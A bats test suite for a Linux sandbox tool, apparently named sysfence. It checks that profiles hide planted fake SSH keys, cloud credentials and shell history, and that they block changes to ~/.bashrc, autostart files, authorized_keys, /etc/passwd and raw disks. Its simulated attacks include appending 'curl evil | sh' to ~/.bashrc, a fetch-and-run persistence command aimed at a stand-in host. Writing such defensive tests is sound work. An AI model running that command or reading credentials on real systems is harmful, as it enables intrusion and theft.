#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-2.0-or-later
# The private view of [sandbox] (sysfence.profile(5), docs/sandbox.md):
# what a compromised program tries against its user and, as root, against
# the system, under default and under profiles with the namespace keys.
# Every attempt is checked where it would land, on the host, and each has a
# control that makes it without sysfence and shows that it works there. The
# user is one with a real home in /home (sysfence-home); root's tests use a
# home of their own ($HOME points there), so /root is never touched.

bats_require_minimum_version 1.5.0
load helpers

HOME_USER=sysfence-home
UH=/home/$HOME_USER

setup_file() {
	sf_setup_file
	if [ "$EUID" -eq 0 ]; then
		flock /run/lock/sysfence-test-user.lock sh -c \
			"getent passwd $HOME_USER >/dev/null || useradd --create-home --shell /bin/sh $HOME_USER"
	fi
}

teardown_file() {
	sf_teardown_file
}

# A home with what an attacker wants: keys, credentials, a history, and
# the files that start programs at the next login.
fill_home() {
	local h=$1 owner=$2
	rm -rf "$h/.ssh" "$h/.aws" "$h/.config" "$h/.bash_history" "$h/.bashrc" "$h/.gnupg" "$h/new-file"
	mkdir -p "$h/.ssh" "$h/.aws" "$h/.config/autostart" "$h/.gnupg"
	echo "PRIVATE KEY $RANDOM" >"$h/.ssh/id_rsa"
	echo "ssh-ed25519 AAAA host" >"$h/.ssh/known_hosts"
	echo "aws_secret_access_key = s3cr3t" >"$h/.aws/credentials"
	echo "mysql -p hunter2" >"$h/.bash_history"
	echo "# the user's rc" >"$h/.bashrc"
	chmod 0700 "$h/.ssh" "$h/.gnupg"
	chown -R "$owner" "$h"
}

setup() {
	require_root
	sf_setup
	export SYSFENCE_PROFILE_PATH="$T:$F:$SF_TMP/profiles"
	RH="$SF_TMP/root-home$BATS_TEST_NUMBER"
	mkdir -p "$RH"
	fill_home "$UH" "$HOME_USER:$HOME_USER"
	fill_home "$RH" root:root
	profile view-tmp <<-'EOF'
		[profile]
		include = default
		[sandbox]
		namespaces = required
		private-tmp = yes
	EOF
	profile view-net <<-'EOF'
		[profile]
		include = default
		[sandbox]
		namespaces = required
		private-network = yes
	EOF
	PIDS=()
}

teardown() {
	sf_kill_pids
}

# Run as the user with a real home, in it, with HOME set.
as_home() {
	(cd "$UH" && setpriv --reuid="$HOME_USER" --regid="$HOME_USER" --clear-groups -- env HOME="$UH" "$@")
}

as_root_home() {
	(cd "$RH" && env HOME="$RH" "$@")
}

# as_who WHO COMMAND...: as_home for "user", as_root_home for "root".
as_who() {
	local who=$1
	shift
	if [ "$who" = user ]; then
		as_home "$@"
	else
		as_root_home "$@"
	fi
}

# probe_as WHO WANT [SYSFENCE-ARGS... --] PROBE-ARGS: the probe bare (no --)
# or under sysfence, as the user ("user") or as root ("root").
probe_as() {
	local who=$1 want=$2
	shift 2
	local -a cmd=()
	if [[ " $* " == *" -- "* ]]; then
		cmd=("$SYSFENCE")
		while [ "$1" != -- ]; do
			cmd+=("$1")
			shift
		done
		shift
		cmd+=(-- "$PROBE" "$@")
	else
		cmd=("$PROBE" "$@")
	fi
	run -0 --separate-stderr as_who "$who" "${cmd[@]}"
	assert_output "$want"
}

secrets_hidden() {
	local who=$1 h=$2
	probe_as "$who" OK open "$h/.ssh/id_rsa"
	probe_as "$who" OK open "$h/.aws/credentials"
	probe_as "$who" OK open "$h/.bash_history"
	probe_as "$who" EACCES -p default -- open "$h/.ssh/id_rsa"
	probe_as "$who" EACCES -p default -- open "$h/.aws/credentials"
	probe_as "$who" EACCES -p default -- open "$h/.bash_history"
	probe_as "$who" EACCES -p default -- open "$h/.gnupg"
	# What a shell sees: nothing of the secret.
	run --separate-stderr as_who "$who" "$SYSFENCE" -p default -- sh -c 'cat ~/.ssh/id_rsa ~/.aws/credentials'
	assert_failure
	refute_output --partial "PRIVATE KEY"
	refute_output --partial s3cr3t
}

@test "under default, a user cannot read the hidden secrets of a real home; bare, it can" {
	secrets_hidden user "$UH"
}

@test "under default, root cannot read the hidden secrets of its home; bare, it can" {
	secrets_hidden root "$RH"
}

dotfiles_read_only() {
	local who=$1 h=$2 before
	before=$(sha256sum "$h/.bashrc")
	# Bare: the files that start programs can be changed (undone at once).
	probe_as "$who" OK open-rw "$h/.bashrc"
	probe_as "$who" OK touch "$h/.config/autostart/control.desktop"
	rm -f "$h/.config/autostart/control.desktop"
	probe_as "$who" EROFS -p default -- open-rw "$h/.bashrc"
	probe_as "$who" EROFS -p default -- touch "$h/.config/autostart/evil.desktop"
	probe_as "$who" EROFS -p default -- touch "$h/.ssh/authorized_keys"
	run as_who "$who" "$SYSFENCE" -p default -- sh -c 'echo "curl evil | sh" >>~/.bashrc'
	assert_failure
	# On the host: nothing changed, nothing planted.
	[ "$(sha256sum "$h/.bashrc")" = "$before" ]
	assert_file_not_exists "$h/.config/autostart/evil.desktop"
	assert_file_not_exists "$h/.ssh/authorized_keys"
	# The rest of the home is the program's to write, as before.
	probe_as "$who" OK -p default -- touch "$h/new-file"
	assert_file_exists "$h/new-file"
}

@test "under default, a user cannot change ~/.bashrc, ~/.config/autostart or ~/.ssh; the rest of the home stays writable" {
	dotfiles_read_only user "$UH"
}

@test "under default, root cannot change its ~/.bashrc, ~/.config/autostart or ~/.ssh" {
	dotfiles_read_only root "$RH"
}

@test "as root under default: /etc/passwd, /usr, /proc/sys and chmod/chown under /usr are refused; bare they work" {
	local f="/usr/local/sysfence-view-$RANDOM" before
	before=$(sha256sum /etc/passwd)
	# Controls: open for writing (nothing written), create and change a file.
	probe_as root OK open-rw /etc/passwd
	probe_as root OK open-rw /proc/sys/kernel/core_pattern
	probe_as root OK touch "$f"
	probe_as root OK chown "$f" 1 1
	probe_as root OK chmod "$f" 04755
	probe_as root EROFS -p default -- open-rw /etc/passwd
	probe_as root EROFS -p default -- open-rw /proc/sys/kernel/core_pattern
	probe_as root EROFS -p default -- touch "/usr/local/planted-$RANDOM"
	probe_as root EROFS -p default -- chmod "$f" 0777
	probe_as root EROFS -p default -- chown "$f" 0 0
	probe_as root EROFS -p default -- touch /etc/sysfence-planted
	# On the host: nothing changed.
	[ "$(sha256sum /etc/passwd)" = "$before" ]
	[ "$(stat -c %a:%u "$f")" = 4755:1 ]
	assert_file_not_exists /etc/sysfence-planted
	rm -f "$f"
	# The root defaults are what does it, and a profile may say otherwise.
	profile system-no <<-'EOF'
		[profile]
		include = default
		[sandbox]
		protect-system = no
		protect-kernel-tunables = no
	EOF
	probe_as root OK -p system-no -- open-rw /etc/passwd
}

@test "private-tmp: a file dropped in /tmp or /var/tmp never reaches the host, as root and as a user" {
	local who name
	for who in root user; do
		name="sysfence-drop-$RANDOM"
		probe_as "$who" OK -p view-tmp -- touch "/tmp/$name"
		probe_as "$who" OK -p view-tmp -- touch "/var/tmp/$name"
		assert_file_not_exists "/tmp/$name"
		assert_file_not_exists "/var/tmp/$name"
		# Started from a directory in /tmp, the program still works there.
		if [ "$who" = root ]; then
			run -0 --separate-stderr as_root_home "$SYSFENCE" -p view-tmp -- sh -c "pwd; ls -A"
			assert_line --index 0 "$RH"
			assert_line .bashrc
		fi
		# Control: bare, it lands.
		probe_as "$who" OK touch "/tmp/$name"
		assert_file_exists "/tmp/$name"
		rm -f "/tmp/$name"
	done
}

@test "private-network: a local TCP service on the host is out of reach, the loopback inside is up" {
	local who port=$((20000 + RANDOM % 20000))
	python3 -m http.server --bind 127.0.0.1 "$port" >/dev/null 2>&1 &
	PIDS+=($!)
	local i
	for i in $(seq 50); do
		bash -c "exec 3<>/dev/tcp/127.0.0.1/$port" 2>/dev/null && break
		sleep 0.1
	done
	local connect="exec 3<>/dev/tcp/127.0.0.1/$port && echo reached"
	local self='import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(); socket.create_connection(s.getsockname()); print("loopback up")'
	for who in root user; do
		run -0 as_who "$who" bash -c "$connect"
		assert_output reached
		run as_who "$who" "$SYSFENCE" -p view-net -- bash -c "$connect"
		assert_failure
		refute_output --partial reached
		run -0 as_who "$who" "$SYSFENCE" -p view-net -- python3 -c "$self"
		assert_output "loopback up"
	done
}

@test "protect-home: yes hides every home, read-only keeps it readable, read-write-paths is the exception" {
	mkdir -p "$UH/Downloads" && chown "$HOME_USER:" "$UH/Downloads"
	profile home-yes <<-'EOF'
		[seccomp]
		default-action = allow
		[sandbox]
		protect-home = yes
	EOF
	profile home-ro <<-'EOF'
		[seccomp]
		default-action = allow
		[sandbox]
		protect-home = read-only
		read-write-paths = ~/Downloads
	EOF
	profile home-tmpfs <<-'EOF'
		[seccomp]
		default-action = allow
		[sandbox]
		protect-home = tmpfs
		read-only-paths = ~/.bashrc
	EOF
	# A program started in a hidden directory would start nowhere: 125.
	run -125 --separate-stderr as_home "$SYSFENCE" -p home-yes -- true
	assert_stderr_contains "which protect-home hides"
	run -0 --separate-stderr bash -c "cd / && setpriv --reuid=$HOME_USER --regid=$HOME_USER --clear-groups -- env HOME=$UH $PROBE open $UH/.bashrc"
	assert_output OK
	run -0 --separate-stderr bash -c "cd / && setpriv --reuid=$HOME_USER --regid=$HOME_USER --clear-groups -- env HOME=$UH $SYSFENCE -p home-yes -- $PROBE open $UH/.bashrc"
	assert_output EACCES
	probe_as user OK -p home-ro -- open "$UH/.bashrc"
	probe_as user EROFS -p home-ro -- touch "$UH/new-file"
	probe_as user OK -p home-ro -- touch "$UH/Downloads/file"
	assert_file_exists "$UH/Downloads/file"
	run -0 --separate-stderr bash -c "cd / && setpriv --reuid=$HOME_USER --regid=$HOME_USER --clear-groups -- env HOME=$UH $SYSFENCE -p home-tmpfs -- sh -c 'ls -A $UH; cat $UH/.bashrc'"
	assert_output "$(printf '.bashrc\n# the user'"'"'s rc')"
}

@test "protect-system = strict: only /dev, /proc, /sys and read-write-paths stay writable" {
	profile strict-view <<-EOF
		[seccomp]
		default-action = allow
		[sandbox]
		protect-system = strict
		read-write-paths = $W
	EOF
	probe_as root EROFS -p strict-view -- touch "/var/sysfence-$RANDOM"
	probe_as root EROFS -p strict-view -- touch "$SF_TMP/x"
	probe_as root OK -p strict-view -- touch "$W/x"
	probe_as root OK -p strict-view -- open-rw /dev/null
	probe_as user EROFS -p strict-view -- touch "$UH/x"
	probe_as user OK -p strict-view -- touch "$W/y"
}

@test "private-devices: only the pseudo devices, and a /dev/shm of its own" {
	profile devices <<-'EOF'
		[seccomp]
		default-action = allow
		[sandbox]
		private-devices = yes
	EOF
	local who name
	for who in root user; do
		name="sysfence-shm-$RANDOM"
		run -0 as_who "$who" "$SYSFENCE" -p devices -- sh -c "ls /dev | tr '\n' ' '; echo x >/dev/null && echo >/dev/shm/$name && echo written"
		assert_line --index 0 --regexp '^fd full null ptmx pts random shm stderr stdin stdout tty urandom zero ?(written)?$'
		assert_output --partial written
		assert_file_not_exists "/dev/shm/$name"
	done
	# Control: the host's /dev has more (the test's own terminal or a disk).
	[ "$(ls /dev | wc -l)" -gt 14 ]
}

@test "mounts of the view never reach the host: its mount table is unchanged while the program runs" {
	local before during inside
	before=$(wc -l </proc/self/mountinfo)
	as_root_home "$SYSFENCE" -p view-tmp -- sleep 30 &
	PIDS+=($!)
	as_home "$SYSFENCE" -p view-tmp -- sleep 30 &
	PIDS+=($!)
	sleep 1
	during=$(wc -l </proc/self/mountinfo)
	[ "$before" = "$during" ]
	# Inside, the private /tmp is a tmpfs of its own.
	run -0 as_root_home "$SYSFENCE" -p view-tmp -- sh -c 'grep -c " /tmp .* - tmpfs " /proc/self/mountinfo'
	[ "$output" -ge 1 ]
	run -0 sh -c "grep ' /tmp ' /proc/self/mountinfo | grep -c ' - tmpfs ' || true"
	inside=$output
	[ "$inside" = 0 ] || skip "the host's /tmp is a tmpfs itself"
}

@test "as a user, the namespace maps only the caller, and the program holds no capability in it" {
	run -0 --separate-stderr as_home "$SYSFENCE" -p view-tmp -- sh -c 'cat /proc/self/uid_map /proc/self/gid_map; grep -E "^(CapEff|CapPrm|CapBnd|CapAmb|NoNewPrivs|Seccomp):" /proc/self/status'
	local uid gid
	uid=$(id -u "$HOME_USER")
	gid=$(id -g "$HOME_USER")
	assert_line --index 0 --regexp "^ +$uid +$uid +1$"
	assert_line --index 1 --regexp "^ +$gid +$gid +1$"
	assert_line "CapEff:${TAB}0000000000000000"
	assert_line "CapPrm:${TAB}0000000000000000"
	assert_line "CapBnd:${TAB}0000000000000000"
	assert_line "CapAmb:${TAB}0000000000000000"
	assert_line "NoNewPrivs:${TAB}1"
	assert_line "Seccomp:${TAB}2"
	# Nor can it make namespaces of its own to gain them back.
	probe_as user EPERM -p view-tmp -- unshare-user 2>/dev/null || run -0 as_home "$SYSFENCE" -p view-tmp -- sh -c 'unshare -r true 2>&1; echo rc=$?'
}

@test "namespaces = required: 125 with the reason where user namespaces are refused; best-effort warns and runs" {
	profile outer <<-'EOF'
		[seccomp]
		default-action = allow
		EPERM = unshare
		[capabilities]
		drop = all
	EOF
	profile tmp-best <<-'EOF'
		[profile]
		include = default
		[sandbox]
		private-tmp = yes
		namespaces = best-effort
	EOF
	local name="sysfence-best-$RANDOM"
	run -125 --separate-stderr as_home "$SYSFENCE" -p outer -- "$SYSFENCE" -p view-tmp -- "$PROBE" touch "/tmp/$name"
	assert_output ''
	assert_stderr_contains "cannot create a user namespace, which [sandbox] "
	assert_stderr_contains 'write "namespaces = best-effort"'
	assert_file_not_exists "/tmp/$name"
	run -0 --separate-stderr as_home "$SYSFENCE" -p outer -- "$SYSFENCE" -p tmp-best -- "$PROBE" touch "/tmp/$name"
	assert_output OK
	assert_stderr_contains "warning:"
	assert_stderr_contains "namespaces = best-effort"
	assert_file_exists "/tmp/$name"
	rm -f "/tmp/$name"
	# Inside another sandbox's view (a user namespace and a filter: a
	# linked program run by a linked program), nothing to warn about.
	run -0 --separate-stderr as_home "$SYSFENCE" -p default -- "$SYSFENCE" -p tmp-best -- "$PROBE" pid
	[ -z "$stderr" ]
	run -0 --separate-stderr as_home "$SYSFENCE" -p default -- "$SYSFENCE" -v -p tmp-best -- "$PROBE" pid
	assert_stderr_contains "inside another sandbox's view: namespaces it refuses are left out without a warning"
	# -q silences the warning, not the run.
	run -0 --separate-stderr as_home "$SYSFENCE" -p outer -- "$SYSFENCE" -q -p tmp-best -- "$PROBE" touch "/tmp/$name"
	[ -z "$stderr" ]
	rm -f "/tmp/$name"
}

@test "root without CAP_SYS_ADMIN (inside another sandbox) runs without the root defaults, and -v says so" {
	run -0 --separate-stderr "$SYSFENCE" -p default -- "$SYSFENCE" -v -p default -- "$PROBE" open /etc/passwd
	assert_output OK
	assert_stderr_contains "root defaults protect-system, protect-kernel-tunables and private-devices left out"
}

@test "--check and a run stop at a missing required path with its line; -PATH may be missing" {
	profile missing <<-'EOF'
		[seccomp]
		default-action = allow
		[sandbox]
		read-only-paths = -/nonexistent/optional
		inaccessible-paths = /nonexistent/required
	EOF
	run -1 --separate-stderr "$SYSFENCE" --check -p missing
	assert_stderr_contains "missing.ini:5: inaccessible-paths: \"/nonexistent/required\" does not exist"
	run -125 --separate-stderr "$SYSFENCE" -p missing -- "$PROBE" pid
	assert_output ''
	assert_stderr_contains "missing.ini:5: inaccessible-paths: \"/nonexistent/required\" does not exist"
	run -1 --separate-stderr "$SYSFENCE" --check --set=sandbox.protect-home=maybe -p default
	assert_stderr_contains 'expected no, yes, read-only or tmpfs, found "maybe"'
	run -1 --separate-stderr "$SYSFENCE" --check --set=sandbox.private-everything=yes -p default
	assert_stderr_contains 'unknown key "private-everything" in [sandbox]'
}

@test "-v and --explain show the plan: each mount with the key and line that asked for it" {
	run -0 --separate-stderr as_home "$SYSFENCE" -v -p view-tmp -- true
	assert_stderr_contains "sysfence: sandbox: user namespace (own ids only), mount namespace"
	assert_stderr_contains "sysfence: sandbox: private tmpfs /tmp"
	assert_stderr_contains "sysfence: sandbox: inaccessible $UH/.ssh/id_rsa"
	assert_stderr_contains "; inaccessible-paths, $SF_TMP/profiles/default.ini:"
	run -0 --separate-stderr as_root_home "$SYSFENCE" --explain -p default
	assert_output --partial "protect-system = full"
	assert_output --partial "; default: the program runs as root"
	assert_output --partial "#   read-only /etc"
	assert_output --partial "; protect-system, root default"
}

@test "--set and the firejail-style aliases are the last layer: they show a hidden path again or hide one more" {
	probe_as user OK -p default --set=sandbox.read-write-paths=~/.aws/credentials -- open "$UH/.aws/credentials"
	probe_as user EACCES -p default --set=sandbox.inaccessible-paths=~/.config -- open "$UH/.config/autostart"
	local name="sysfence-set-$RANDOM"
	probe_as user OK -p default --private-tmp -- touch "/tmp/$name"
	assert_file_not_exists "/tmp/$name"
}

@test "as root, a raw disk (root owns it) cannot be opened under default or a per-app profile; bare it can" {
	local disk
	disk=$(find /dev -maxdepth 1 -type b -print -quit)
	[ -n "$disk" ] || skip "no block device in /dev"
	probe_as root OK open-rw "$disk"
	probe_as root ENOENT -p default -- open-rw "$disk"
	probe_as root ENOENT -p gzip -- open-rw "$disk"
	probe_as root ENOENT -p tar -- open "$disk"
	# What programs need is there.
	run -0 as_root_home "$SYSFENCE" -p default -- sh -c 'head -c 4 /dev/urandom | wc -c; echo >/dev/null && echo null-ok'
	assert_output "$(printf '4\nnull-ok')"
}

# Every per-app profile keeps default's promises about the home: the
# secrets stay hidden and the login files unchangeable (EROFS from the
# mount, or EACCES where the profile's Landlock rules refuse first), as
# root and as a user. ssh-keygen, ssh and git are the documented
# exceptions: one writes the keys, the others read them to log in (git
# runs ssh for its ssh remotes).
per_app_run() {
	local who=$1 h=$2
	shift 2
	if [ "$who" = user ]; then
		run --separate-stderr bash -c 'cd / && exec setpriv --reuid="$0" --regid="$0" --clear-groups -- env HOME="$1" "${@:2}"' \
			"$HOME_USER" "$h" "$@"
	else
		run --separate-stderr bash -c 'cd / && exec env HOME="$0" "$@"' "$h" "$@"
	fi
}

per_app_home() {
	local who=$1 h=$2 n before disk
	local -a extra
	before=$(sha256sum "$h/.bashrc")
	disk=$(find /dev -maxdepth 1 -type b -print -quit)
	for f in "$SRC"/profiles/*.ini; do
		n=$(basename "$f" .ini)
		case $n in default | groups | strict) continue ;; esac
		extra=()
		per_app_run "$who" "$h" "$SYSFENCE" -q -p "$n" -- "$PROBE" open "$h/.ssh/id_rsa"
		# Profiles that run only programs under /usr: the probe's own
		# directory joins their execute paths.
		if [[ "$stderr" == *"under no execute path"* ]]; then
			extra=(--set=filesystem.execute="$SF_TMP/bin")
			per_app_run "$who" "$h" "$SYSFENCE" -q -p "$n" "${extra[@]}" -- "$PROBE" open "$h/.ssh/id_rsa"
		fi
		if [ "$n" = ssh-keygen ]; then
			[ "$output" = OK ] || { echo "$n ($who): $output $stderr"; return 1; }
			continue
		elif [ "$n" = ssh ] || [ "$n" = git ]; then
			[ "$output" = OK ] || { echo "$n ($who): $output $stderr"; return 1; }
		else
			[ "$output" = EACCES ] || { echo "$n ($who): $output $stderr"; return 1; }
		fi
		per_app_run "$who" "$h" "$SYSFENCE" -q -p "$n" "${extra[@]}" -- "$PROBE" open-rw "$h/.bashrc"
		[ "$output" = EROFS ] || [ "$output" = EACCES ] || { echo "$n ($who): $output $stderr"; return 1; }
		[ "$who" = root ] || continue
		# As root, the root defaults hold under every profile: the
		# system's files and the disk it lives on.
		per_app_run root "$h" "$SYSFENCE" -q -p "$n" "${extra[@]}" -- "$PROBE" open-rw /etc/passwd
		[ "$output" = EROFS ] || [ "$output" = EACCES ] || { echo "$n (root): /etc/passwd $output $stderr"; return 1; }
		if [ -n "$disk" ]; then
			per_app_run root "$h" "$SYSFENCE" -q -p "$n" "${extra[@]}" -- "$PROBE" open "$disk"
			[ "$output" = ENOENT ] || [ "$output" = EACCES ] || { echo "$n (root): $disk $output $stderr"; return 1; }
		fi
	done
	[ "$(sha256sum "$h/.bashrc")" = "$before" ]
}

@test "every per-app profile keeps the secrets hidden and ~/.bashrc unchangeable, as a user" {
	per_app_home user "$UH"
}

@test "every per-app profile keeps the secrets hidden, ~/.bashrc unchangeable, /etc/passwd and the raw disk out of reach, as root" {
	per_app_home root "$RH"
}

@test "under --report, a user's program gets the same view (the supervised child maps its ids)" {
	run -0 --separate-stderr as_home "$SYSFENCE" --report -p default -- "$PROBE" open "$UH/.ssh/id_rsa"
	assert_output EACCES
	run -0 --separate-stderr as_home "$SYSFENCE" --report -p view-tmp -- "$PROBE" touch /tmp/reported
	assert_output OK
	assert_file_not_exists /tmp/reported
}

@test "[filesystem] rules name the private view: read-write = /tmp with private-tmp writes the private /tmp" {
	profile ll-tmp <<-EOF
		[seccomp]
		default-action = allow
		[filesystem]
		read-only = /
		read-write = /tmp
		execute = /usr /bin /lib /lib64 $SF_TMP/bin
		[sandbox]
		private-tmp = yes
	EOF
	local who name
	for who in root user; do
		name="sysfence-ll-$RANDOM"
		probe_as "$who" OK -p ll-tmp -- touch "/tmp/$name"
		assert_file_not_exists "/tmp/$name"
		# Landlock still holds outside it.
		probe_as "$who" EACCES -p ll-tmp -- touch "$UH/$name"
		assert_file_not_exists "$UH/$name"
	done
}

@test "private-devices keeps /dev/log, where syslog(3) writes: the host's link, or its socket" {
	[ ! -e /dev/log ] && [ ! -L /dev/log ] || skip "the host has a /dev/log of its own; not touched"
	profile devlog <<-'EOF'
		[seccomp]
		default-action = allow
		[sandbox]
		private-devices = yes
	EOF
	ln -s /run/systemd/journal/dev-log /dev/log
	run -0 as_root_home "$SYSFENCE" -p devlog -- readlink /dev/log
	rm -f /dev/log
	assert_output /run/systemd/journal/dev-log
	python3 -c 'import socket; s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.bind("/dev/log")'
	run -0 as_root_home "$SYSFENCE" -p devlog -- sh -c 'test -S /dev/log && echo socket'
	rm -f /dev/log
	assert_output socket
}
